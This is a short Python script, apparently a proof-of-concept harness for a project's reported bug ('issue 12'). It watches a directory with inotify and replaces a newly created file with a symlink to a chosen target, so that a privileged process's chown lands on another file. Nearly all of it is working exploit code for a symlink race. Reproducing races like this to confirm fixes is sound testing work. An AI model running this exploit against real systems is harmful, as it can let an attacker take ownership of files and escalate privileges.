#!/usr/bin/env python3
"""race_symlink.py DIR NAME TARGET SECONDS: the attacker of the rename-then-chown
race (issue 12). Watches DIR with inotify; whenever NAME is created or renamed
into place there, replaces it at once with a symlink to TARGET, for SECONDS.
Prints a line for each swap."""
import ctypes, os, select, struct, sys, time

IN_CREATE, IN_MOVED_TO = 0x100, 0x80
libc = ctypes.CDLL(None, use_errno=True)
d, name, target, seconds = sys.argv[1], sys.argv[2].encode(), sys.argv[3], float(sys.argv[4])
fd = libc.inotify_init1(os.O_NONBLOCK)
if fd < 0 or libc.inotify_add_watch(fd, d.encode(), IN_CREATE | IN_MOVED_TO) < 0:
    sys.exit("inotify: " + os.strerror(ctypes.get_errno()))
swaps, end = 0, time.monotonic() + seconds
print("watching", flush=True)
while time.monotonic() < end:
    if not select.select([fd], [], [], 0.1)[0]:
        continue
    buf, off = os.read(fd, 65536), 0
    while off < len(buf):
        _, mask, _, n = struct.unpack_from("iIII", buf, off)
        ev = buf[off + 16:off + 16 + n].rstrip(b"\0")
        off += 16 + n
        if ev == name:
            path = os.path.join(d, name.decode())
            if os.path.islink(path):
                continue        # our own symlink's event
            try:
                os.unlink(path)
                os.symlink(target, path)
                swaps += 1
                print("swap", swaps, flush=True)
            except OSError:
                pass
print("swaps", swaps, flush=True)
